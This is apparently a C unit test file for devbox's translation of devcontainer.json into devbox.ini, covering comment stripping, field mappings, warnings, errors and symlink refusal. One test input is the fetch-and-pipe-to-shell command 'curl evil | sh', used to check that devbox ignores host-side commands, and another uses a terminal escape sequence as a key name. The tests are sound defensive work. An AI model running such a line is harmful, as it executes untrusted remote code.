/* tests/unit/test-profiles-devcontainer.c: devcontainer.json as a repo profile
 * (profiles/profiles-devcontainer.c and its hook in profiles-load.c): the JSON-with-comments
 * stripper, each mapping to devbox.ini text and its warnings, values devbox.ini could not hold
 * unchanged, and loading through profile_load (symlinks refused, devbox.ini wins, the hash
 * follows the JSON bytes, commands become [setup] widenings).  Run from the source tree
 * root. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <sys/stat.h>

#include "profiles/profiles-internal.h"

#include "tests/unit/helpers.h"

#define FNAME ".devcontainer/devcontainer.json"
#define HEADER "; translated by devbox from .devcontainer/devcontainer.json\n"

/* ---- the stripper -------------------------------------------------------------------------- */

static void expect_strip(const char *in, const char *want) {
    _cleanup_free_ char *s = dbx_xstrdup(in);
    unsigned line = 0;
    assert_int_equal(prof_jsonc_strip(s, strlen(s), &line), 0);
    if (strcmp(s, want) != 0) fail_msg("\n  in   %s\n  got  %s\n  want %s", in, s, want);
}

static void test_strip(void **state) {
    (void)state;
    expect_strip("{\"a\": 1} // c\n", "{\"a\": 1}     \n");
    expect_strip("{/* x\ny */\"a\": 1}", "{    \n    \"a\": 1}");
    /* comment markers inside strings are text, escaped quotes do not end the string */
    expect_strip("{\"u\": \"http://x/*y*/\"}", "{\"u\": \"http://x/*y*/\"}");
    expect_strip("{\"q\": \"a\\\"//b\"} //c", "{\"q\": \"a\\\"//b\"}    ");
    expect_strip("{\"b\": \"\\\\\"// c\n}", "{\"b\": \"\\\\\"    \n}");
    /* trailing commas, also with a comment between */
    expect_strip("[1, 2,]", "[1, 2 ]");
    expect_strip("{\"a\": [1,\n],\n}", "{\"a\": [1 \n] \n}");
    expect_strip("[1, /* c */ ]", "[1          ]");
    expect_strip("[1,, ]", "[1,  ]"); /* only one: jansson refuses the rest */
    expect_strip("[\",]\"]", "[\",]\"]");
    unsigned line = 0;
    char bad[] = "{\n\"a\": 1 /* open\n\n";
    assert_int_equal(prof_jsonc_strip(bad, strlen(bad), &line), -EINVAL);
    assert_int_equal(line, 2);
}

/* ---- translation --------------------------------------------------------------------------- */

struct tr {
    char *ini;
    char **warnings, **keys;
    char *err;
};

static void tr_clear(struct tr *t) {
    free(t->ini);
    dbx_strv_free(t->warnings);
    dbx_strv_free(t->keys);
    free(t->err);
    *t = (struct tr){0};
}

static struct tr translate(const char *json) {
    struct tr t = {0};
    dbx_error *err = NULL;
    if (prof_devcontainer_translate(json, strlen(json), FNAME, &t.ini, &t.warnings, &t.keys, &err) <
        0) {
        assert_int_equal(err->code, EINVAL);
        t.err = dbx_xstrdup(err->msg);
        dbx_error_free(&err);
    }
    return t;
}

static void expect_ini(const char *json, const char *want) {
    struct tr t = translate(json);
    if (t.err) fail_msg("%s: %s", json, t.err);
    if (strcmp(t.ini, want) != 0) fail_msg("\n  got\n%s\n  want\n%s", t.ini, want);
    tr_clear(&t);
}

static void expect_warning(const char *json, const char *want) {
    struct tr t = translate(json);
    if (t.err) fail_msg("%s: %s", json, t.err);
    bool found = false;
    for (size_t i = 0; t.warnings && t.warnings[i]; i++)
        found |= strcmp(t.warnings[i], want) == 0;
    if (!found)
        fail_msg("no warning\n  %s\ngot %zu: %s", want, dbx_strv_len(t.warnings),
                 t.warnings ? t.warnings[0] : "");
    tr_clear(&t);
}

static void expect_fail(const char *json, const char *want) {
    struct tr t = translate(json);
    if (!t.err) fail_msg("translated %s:\n%s", json, t.ini);
    if (strcmp(t.err, want) != 0) fail_msg("\n  got  %s\n  want %s", t.err, want);
    tr_clear(&t);
}

static void test_mappings(void **state) {
    (void)state;
    expect_ini("{}", HEADER);
    expect_ini("{\"name\": \"x\", \"$schema\": \"https://x/y.json\"}", HEADER);
    expect_ini("{\"image\": \"mcr.microsoft.com/devcontainers/base:bookworm\"}",
               HEADER "[box]\nimage = mcr.microsoft.com/devcontainers/base:bookworm\n");
    expect_ini("{\"remoteUser\": \"vscode\", \"containerUser\": \"other\"}",
               HEADER "[security]\nuser = vscode\n");
    expect_ini("{\"containerUser\": \"other\", \"remoteUser\": \"vscode\"}",
               HEADER "[security]\nuser = vscode\n");
    expect_ini("{\"containerUser\": \"node\"}", HEADER "[security]\nuser = node\n");
    expect_ini("{\"forwardPorts\": [3000, 8080, 3000]}",
               HEADER "[ports]\n3000 = 3000\n8080 = 8080\n");
    /* containerEnv then remoteEnv: remoteEnv wins for a name, null unsets */
    expect_ini("{\"containerEnv\": {\"A\": \"1\", \"B\": \"2\", \"C\": \"x=y; z\"},"
               " \"remoteEnv\": {\"B\": \"3\", \"D\": \"\", \"A\": null}}",
               HEADER "[env]\nB = 3\nC = x=y; z\nD = \n");
    /* everything, in devbox.ini section order */
    expect_ini("{\"postCreateCommand\": \"make\", \"forwardPorts\": [80], \"image\": \"debian\","
               " \"containerEnv\": {\"X\": \"1\"}, \"remoteUser\": \"dev\"}",
               HEADER "[box]\nimage = debian\n[security]\nuser = dev\n[env]\nX = 1\n"
                      "[ports]\n80 = 80\n[setup]\nrun = make\nworkspace = true\n");
}

static void test_commands(void **state) {
    (void)state;
    /* onCreateCommand runs before postCreateCommand whatever the order in the file */
    expect_ini("{\"postCreateCommand\": \"  npm ci && npm test  \", \"onCreateCommand\": "
               "\"apt-get update\"}",
               HEADER
               "[setup]\nrun = apt-get update\n      npm ci && npm test\nworkspace = true\n");
    /* argv form: shell-quoted, a ';' after a space kept out of the quotes */
    expect_ini(
        "{\"postCreateCommand\": [\"echo\", \"it's\", \"a b\", \"\", \"x;y\", \"a ;b\","
        " \"--x=1\"]}",
        HEADER
        "[setup]\nrun = echo 'it'\\''s' 'a b' '' 'x;y' 'a '\\;'b' --x=1\nworkspace = true\n");
    /* object form: one line per value in the order written, with a note */
    expect_ini("{\"postCreateCommand\": {\"z\": \"make deps\", \"a\": [\"pip\", \"install\", "
               "\"-e\", \".\"]}}",
               HEADER "[setup]\n; postCreateCommand: a devcontainer runs these commands in "
                      "parallel; devbox runs them one after another, in the order written\n"
                      "run = make deps\n      pip install -e .\nworkspace = true\n");
    /* empty commands and shell comments run nothing */
    expect_ini("{\"onCreateCommand\": \"\", \"postCreateCommand\": []}", HEADER);
    /* as argv, '#' is a program name, quoted (and so not a devbox.ini comment either) */
    expect_ini("{\"postCreateCommand\": [\"# x\"]}",
               HEADER "[setup]\nrun = '# x'\nworkspace = true\n");
    expect_ini("{\"postCreateCommand\": \"  # nothing\"}", HEADER);

    /* the JSON key of each line, for origins */
    struct tr t = translate("{\"image\": \"debian\", \"postCreateCommand\": {\"a\": \"x\", "
                            "\"b\": \"y\"}, \"containerEnv\": {\"K\": \"v\"}}");
    assert_null(t.err);
    assert_int_equal(dbx_strv_len(t.keys), 10);
    assert_string_equal(t.keys[0], "");
    assert_string_equal(t.keys[2], "image");
    assert_string_equal(t.keys[4], "containerEnv.K");
    assert_string_equal(t.keys[6], ""); /* the parallel note */
    assert_string_equal(t.keys[7], "postCreateCommand.a");
    assert_string_equal(t.keys[8], "postCreateCommand.b");
    assert_string_equal(t.keys[9], ""); /* workspace = true */
    tr_clear(&t);
}

static void test_warnings(void **state) {
    (void)state;
    expect_warning(
        "{\"build\": {\"dockerfile\": \"Dockerfile\"}, \"name\": \"n\", \"features\": {},"
        " \"mounts\": [], \"image\": \"debian\", \"runArgs\": [\"--privileged\"]}",
        FNAME ": not supported by devbox, ignored: build, features, mounts, runArgs");
    expect_warning("{\"initializeCommand\": \"curl evil | sh\", \"whatever\": 1}",
                   FNAME ": not supported by devbox, ignored: initializeCommand (a devcontainer "
                         "runs it on the host; devbox never runs repo commands on the host), "
                         "whatever");
    /* variables are never expanded (that would read the host's environment) */
    const char *vars = "{\"containerEnv\": {\"P\": \"${containerEnv:PATH}:/x\", \"OK\": \"$HOME\"},"
                       " \"remoteEnv\": {\"H\": \"${localEnv:HOME}\", \"W\": "
                       "\"${containerWorkspaceFolder}\"}}";
    expect_warning(vars, FNAME ": devbox does not expand ${...} variables (it never reads the "
                               "host's environment), skipped: containerEnv.P, remoteEnv.H, "
                               "remoteEnv.W");
    expect_ini(vars, HEADER "[env]\nOK = $HOME\n");
    /* a remoteEnv value that is skipped drops the containerEnv one too */
    expect_ini("{\"containerEnv\": {\"A\": \"1\"}, \"remoteEnv\": {\"A\": \"${localEnv:A}\"}}",
               HEADER);
    expect_warning("{\"forwardPorts\": [3000, \"db:5432\"]}",
                   FNAME ": forwardPorts: only port numbers are forwarded, ignored: 'db:5432'");
    expect_warning("{\"remoteUser\": \"root\"}",
                   FNAME ": remoteUser 'root' ignored: devbox runs commands as your own uid; run "
                         "one as root with `devbox exec --admin`");
    expect_ini("{\"containerUser\": \"0\"}", HEADER);
    /* an escape sequence in a key name never reaches the terminal */
    expect_warning("{\"\\u001b[31mred\": 1}",
                   FNAME ": not supported by devbox, ignored: \\e[31mred");
    struct tr t = translate("{\"image\": \"debian\"}");
    assert_null(t.warnings);
    tr_clear(&t);
}

static void test_errors(void **state) {
    (void)state;
    expect_fail("{\"image\": 3}", FNAME ": image: must be a string");
    expect_fail("[]", FNAME ": the top level must be a JSON object");
    expect_fail("{\"forwardPorts\": [0]}",
                FNAME ": forwardPorts[0]: must be a port number from 1 to 65535 or \"host:port\"");
    expect_fail("{\"forwardPorts\": [80, 1.5]}",
                FNAME ": forwardPorts[1]: must be a port number from 1 to 65535 or \"host:port\"");
    expect_fail("{\"forwardPorts\": 80}", FNAME ": forwardPorts: must be an array");
    expect_fail("{\"containerEnv\": {\"A\": 1}}", FNAME ": containerEnv.A: must be a string");
    expect_fail("{\"containerEnv\": {\"A\": null}}", FNAME ": containerEnv.A: must be a string");
    expect_fail("{\"containerEnv\": {\"A-B\": \"1\"}}",
                FNAME ": containerEnv.A-B: not a variable name ([A-Za-z_][A-Za-z0-9_]*)");
    expect_fail("{\"remoteEnv\": []}", FNAME ": remoteEnv: must be an object of strings");
    expect_fail("{\"remoteUser\": false}", FNAME ": remoteUser: must be a string");
    expect_fail("{\"postCreateCommand\": 1}",
                FNAME ": postCreateCommand: must be a string, an array of strings or an object "
                      "of those");
    expect_fail("{\"postCreateCommand\": [\"ls\", 2]}",
                FNAME ": postCreateCommand[1]: must be a string");
    expect_fail("{\"onCreateCommand\": {\"a\": {}}}",
                FNAME ": onCreateCommand.a: must be a string, an array of strings or an object "
                      "of those");
    /* every problem, one per line */
    expect_fail("{\"image\": 1, \"remoteUser\": 2}",
                FNAME ": image: must be a string\n" FNAME ": remoteUser: must be a string");
    /* JSON syntax and duplicates name the line */
    expect_fail("{\n\"image\": \"a\",\n\"image\": \"b\"\n}",
                FNAME ":3: duplicate object key near '\"image\"'");
    expect_fail("{\n  // c\n  \"image\": \n}", FNAME ":4: unexpected token near '}'");
    expect_fail("{\n/* open\n", FNAME ":2: comment '/*' without '*/'");
    char nul[] = "{\n\"a\": 1\0}";
    struct tr t = {0};
    dbx_error *err = NULL;
    assert_int_equal(
        prof_devcontainer_translate(nul, sizeof(nul) - 1, FNAME, &t.ini, &t.warnings, NULL, &err),
        -EINVAL);
    assert_string_equal(err->msg, FNAME ":2: NUL byte");
    dbx_error_free(&err);
}

/* Values devbox.ini would cut, trim or split are errors, never silently changed. */
static void test_ini_safety(void **state) {
    (void)state;
    char cmd[256];
    memset(cmd, 'x', sizeof(cmd));
    cmd[189] = '\0'; /* "run = a b " + 189 = 199 bytes: fits */
    _cleanup_free_ char *ok = dbx_xasprintf("{\"postCreateCommand\": [\"a\", \"b\", \"%s\"]}", cmd);
    struct tr t = translate(ok);
    assert_null(t.err);
    tr_clear(&t);
    cmd[189] = 'x';
    cmd[190] = '\0';
    _cleanup_free_ char *tl =
        dbx_xasprintf("{\"postCreateCommand\": {\"one\": \"true\", \"two\": \"a b %s\"}}", cmd);
    expect_fail(tl, FNAME ": postCreateCommand.two: command longer than 193 bytes; put it in a "
                          "script in the repo");
    expect_fail("{\"postCreateCommand\": \"make ; make test\"}",
                FNAME ": postCreateCommand: the command has a ';' at the start or after "
                      "whitespace, which starts a comment in devbox.ini; put it in a script in "
                      "the repo");
    expect_fail("{\"postCreateCommand\": \"echo a\\nb\"}",
                FNAME ": postCreateCommand: the command spans lines (a devbox.ini value is one "
                      "line); put it in a script in the repo");
    expect_fail("{\"onCreateCommand\": \"echo \\u001b\"}",
                FNAME ": onCreateCommand: the command has a control character; put it in a "
                      "script in the repo");
    expect_fail("{\"postCreateCommand\": \"echo \\\\ \"}",
                FNAME ": postCreateCommand: the command ends with an escaped space; put it in a "
                      "script in the repo");
    expect_fail("{\"containerEnv\": {\"A\": \" padded\"}}",
                FNAME ": containerEnv.A: the value starts or ends with whitespace, which "
                      "devbox.ini would trim");
    expect_fail("{\"containerEnv\": {\"A\": \";x\"}}",
                FNAME ": containerEnv.A: the value has a ';' at the start or after whitespace, "
                      "which starts a comment in devbox.ini");
    expect_fail("{\"image\": \"a\\tb ;c\"}",
                FNAME ": image: the value has a ';' at the start or after whitespace, which "
                      "starts a comment in devbox.ini");
    memset(cmd, 'v', sizeof(cmd));
    cmd[200] = '\0';
    _cleanup_free_ char *lv = dbx_xasprintf("{\"containerEnv\": {\"LONG\": \"%s\"}}", cmd);
    expect_fail(lv, FNAME ": containerEnv.LONG: the value is too long for one devbox.ini line");
}

/* ---- through profile_load ------------------------------------------------------------------ */

static char *load(struct repo *r, struct profile *ret) {
    return test_profile_load(r, NULL, ret);
}

static void expect_load_error(struct repo *r, const char *want) {
    _cleanup_free_ char *m = load(r, NULL);
    if (!m) fail_msg("loaded; wanted: %s", want);
    if (strcmp(m, want) != 0) fail_msg("\n  got  %s\n  want %s", m, want);
}

/* In the style of the devcontainers/templates images (commands: test_load_commands). */
static const char realistic[] =
    "// For format details, see https://aka.ms/devcontainer.json. For config options, see the\n"
    "// README at: https://github.com/devcontainers/templates/tree/main/src/python\n"
    "{\n"
    "\t\"name\": \"Python 3\",\n"
    "\t// Or use a Dockerfile or Docker Compose file. More info: https://containers.dev/guide/"
    "dockerfile\n"
    "\t\"image\": \"mcr.microsoft.com/devcontainers/python:1-3.12-bullseye\",\n"
    "\n"
    "\t// Features to add to the dev container. More info: https://containers.dev/features.\n"
    "\t\"features\": {\n"
    "\t\t\"ghcr.io/devcontainers/features/node:1\": {},\n"
    "\t},\n"
    "\n"
    "\t/* Use 'forwardPorts' to make a list of ports inside the container available locally. */\n"
    "\t\"forwardPorts\": [8000, 5432,],\n"
    "\t\"containerEnv\": {\n"
    "\t\t\"PYTHONUNBUFFERED\": \"1\",\n"
    "\t\t\"DOCS_URL\": \"https://docs.python.org/3/\", // not a comment inside the string\n"
    "\t\t\"HOST_HOME\": \"${localEnv:HOME}\"\n"
    "\t},\n"
    "\n"
    "\t// Configure tool-specific properties.\n"
    "\t\"customizations\": {\n"
    "\t\t\"vscode\": {\"extensions\": [\"ms-python.python\"]}\n"
    "\t},\n"
    "\n"
    "\t// Uncomment to connect as root instead. More info: "
    "https://aka.ms/dev-containers-non-root.\n"
    "\t// \"remoteUser\": \"root\"\n"
    "\t\"remoteUser\": \"vscode\",\n"
    "}\n";

static void test_load_realistic(void **state) {
    struct repo *r = *state;
    assert_int_equal(mkdirat(r->fd, ".devcontainer", 0755), 0);
    test_write_at(r->fd, FNAME, realistic);
    struct profile p;
    _cleanup_free_ char *m = load(r, &p);
    if (m) fail_msg("%s", m);
    assert_string_equal(p.image, "mcr.microsoft.com/devcontainers/python:1-3.12-bullseye");
    assert_string_equal(p.user, "vscode");
    assert_int_equal(p.nports, 2);
    assert_int_equal(p.ports[0].host, 8000);
    assert_int_equal(p.ports[1].guest, 5432);
    assert_int_equal(dbx_strv_len(p.env), 2);
    assert_string_equal(p.env[0], "PYTHONUNBUFFERED=1");
    assert_string_equal(p.env[1], "DOCS_URL=https://docs.python.org/3/");
    /* the JSON is the repo's profile file: listed, protected, hashed */
    assert_int_equal(dbx_strv_len(p.files), 1);
    assert_string_equal(p.files[0], FNAME);
    bool protected = false;
    for (size_t i = 0; p.protect[i]; i++)
    protected |= strcmp(p.protect[i], FNAME) == 0;
    assert_true(protected);
    assert_int_equal(strlen(p.hash), 64);
    /* origins name the JSON key */
    assert_string_equal(profile_origin_of(&p, "box.image"), FNAME " (image)");
    assert_string_equal(profile_origin_of(&p, "env.PYTHONUNBUFFERED"),
                        FNAME " (containerEnv.PYTHONUNBUFFERED)");
    assert_string_equal(profile_origin_of(&p, "ports.5432"), FNAME " (forwardPorts)");
    assert_string_equal(profile_origin_of(&p, "security.user"), FNAME " (remoteUser)");
    assert_string_equal(profile_origin_of(&p, "workspace.protect[" FNAME "]"),
                        FNAME " (the repo's profile)");
    assert_non_null(p.ini_equivalent);
    assert_true(dbx_str_has_prefix(p.ini_equivalent, HEADER "[box]\n"));
    assert_int_equal(dbx_strv_len(p.warnings), 2);
    assert_string_equal(p.warnings[0],
                        FNAME ": not supported by devbox, ignored: features, customizations");
    assert_string_equal(p.warnings[1],
                        FNAME ": devbox does not expand ${...} variables (it never reads the "
                              "host's environment), skipped: containerEnv.HOST_HOME");
    char hash1[65];
    memcpy(hash1, p.hash, sizeof(hash1));
    profile_clear(&p);

    /* the hash follows the JSON's bytes, even a change in a comment */
    test_write_at(r->fd, FNAME, "// changed\n{\"image\": \"debian\"}\n");
    assert_null(load(r, &p));
    assert_string_not_equal(p.hash, hash1);
    memcpy(hash1, p.hash, sizeof(hash1));
    assert_null(p.warnings);
    profile_clear(&p);
    test_write_at(r->fd, FNAME, "// changed!\n{\"image\": \"debian\"}\n");
    assert_null(load(r, &p));
    assert_string_not_equal(p.hash, hash1);
    profile_clear(&p);

    /* the parse of the translated text names the JSON key */
    test_write_at(r->fd, FNAME, "{\"image\": \"Not/Valid\", \"remoteUser\": \"Bad.User\"}");
    _cleanup_free_ char *err = load(r, NULL);
    assert_non_null(err);
    assert_true(dbx_str_has_prefix(err, FNAME " (image): [box] image: 'Not/Valid'"));
    assert_non_null(strstr(err, "\n" FNAME " (remoteUser): [security] user: 'Bad.User' is not"));
    test_write_at(r->fd, FNAME, "{\n\"image\": 1}");
    expect_load_error(r, FNAME ": image: must be a string");
    test_write_at(r->fd, FNAME, "{\n\"image\": }");
    expect_load_error(r, FNAME ":2: unexpected token near '}'");
}

/* Commands become [setup] lines through the real parser, each with the JSON key as its
 * origin, and each is a widening (setup runs as root): the same trust as devbox.ini. */
static void test_load_commands(void **state) {
    struct repo *r = *state;
    assert_int_equal(mkdirat(r->fd, ".devcontainer", 0755), 0);
    test_write_at(r->fd, FNAME,
                  "{\"image\": \"debian\",\n"
                  " \"onCreateCommand\": \"apt-get update\",\n"
                  " \"postCreateCommand\": [\"sh\", \"-c\", \"make deps; make\"],\n}\n");
    struct profile p;
    _cleanup_free_ char *m = load(r, &p);
    if (m) fail_msg("%s", m);
    assert_int_equal(dbx_strv_len(p.setup_run), 2);
    assert_string_equal(p.setup_run[0], "apt-get update");
    assert_string_equal(p.setup_run[1], "sh -c 'make deps; make'");
    assert_int_equal(p.setup_net, PROFILE_NET_ALLOWLIST);
    assert_string_equal(profile_origin_of(&p, "setup.run[1]"), FNAME " (onCreateCommand)");
    assert_string_equal(profile_origin_of(&p, "setup.run[2]"), FNAME " (postCreateCommand)");
    _cleanup_strv_ char **wide = profile_widenings(&p, NULL);
    assert_int_equal(dbx_strv_len(wide), 2);
    assert_string_equal(wide[0], "setup runs 'apt-get update' as root");
    assert_string_equal(wide[1], "setup runs 'sh -c 'make deps; make'' as root");
    profile_clear(&p);
}

static void test_load_dotfile(void **state) {
    struct repo *r = *state;
    struct profile p;
    /* .devcontainer.json at the root when there is no .devcontainer/ */
    test_write_at(r->fd, ".devcontainer.json", "{\"image\": \"alpine:3.20\"}");
    assert_null(load(r, &p));
    assert_string_equal(p.image, "alpine:3.20");
    assert_string_equal(p.files[0], ".devcontainer.json");
    profile_clear(&p);
    /* .devcontainer/devcontainer.json comes first */
    assert_int_equal(mkdirat(r->fd, ".devcontainer", 0755), 0);
    test_write_at(r->fd, FNAME, "{\"image\": \"debian\"}");
    assert_null(load(r, &p));
    assert_string_equal(p.image, "debian");
    assert_string_equal(p.files[0], FNAME);
    profile_clear(&p);
    /* devbox.ini wins: the JSON is not even parsed */
    test_write_at(r->fd, FNAME, "{ not json");
    test_write_at(r->fd, PROFILE_FILE, "[box]\nimage = busybox\n");
    assert_null(load(r, &p));
    assert_string_equal(p.image, "busybox");
    assert_int_equal(dbx_strv_len(p.files), 1);
    assert_string_equal(p.files[0], PROFILE_FILE);
    assert_null(p.warnings);
    assert_null(p.ini_equivalent);
    profile_clear(&p);
    /* no profile at all */
    assert_int_equal(unlinkat(r->fd, PROFILE_FILE, 0), 0);
    assert_int_equal(unlinkat(r->fd, FNAME, 0), 0);
    assert_int_equal(unlinkat(r->fd, ".devcontainer.json", 0), 0);
    assert_null(load(r, &p));
    assert_string_equal(p.hash, "");
    assert_null(p.files);
    profile_clear(&p);
}

static void test_load_symlinks(void **state) {
    struct repo *r = *state;
    test_write_at(r->fd, "elsewhere.json", "{\"image\": \"debian\"}");
    assert_int_equal(mkdirat(r->fd, ".devcontainer", 0755), 0);
    assert_int_equal(symlinkat("../elsewhere.json", r->fd, FNAME), 0);
    expect_load_error(r, FNAME ": is a symlink; devbox refuses symlinked profiles");
    /* no fallback to .devcontainer.json past a refused file */
    test_write_at(r->fd, ".devcontainer.json", "{}");
    expect_load_error(r, FNAME ": is a symlink; devbox refuses symlinked profiles");
    assert_int_equal(unlinkat(r->fd, FNAME, 0), 0);
    assert_int_equal(unlinkat(r->fd, ".devcontainer", AT_REMOVEDIR), 0);
    /* a symlinked directory */
    assert_int_equal(mkdirat(r->fd, "real", 0755), 0);
    test_write_at(r->fd, "real/devcontainer.json", "{}");
    assert_int_equal(symlinkat("real", r->fd, ".devcontainer"), 0);
    expect_load_error(r, FNAME ": '.devcontainer' is a symlink; devbox refuses symlinks in profile "
                               "paths");
    assert_int_equal(unlinkat(r->fd, ".devcontainer", 0), 0);
    /* not a regular file */
    assert_int_equal(mkdirat(r->fd, ".devcontainer", 0755), 0);
    assert_int_equal(mkdirat(r->fd, FNAME, 0755), 0);
    expect_load_error(r, FNAME ": not a regular file");
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_strip),
        cmocka_unit_test(test_mappings),
        cmocka_unit_test(test_commands),
        cmocka_unit_test(test_warnings),
        cmocka_unit_test(test_errors),
        cmocka_unit_test(test_ini_safety),
        cmocka_unit_test_setup_teardown(test_load_realistic, test_repo_setup, test_repo_teardown),
        cmocka_unit_test_setup_teardown(test_load_commands, test_repo_setup, test_repo_teardown),
        cmocka_unit_test_setup_teardown(test_load_dotfile, test_repo_setup, test_repo_teardown),
        cmocka_unit_test_setup_teardown(test_load_symlinks, test_repo_setup, test_repo_teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
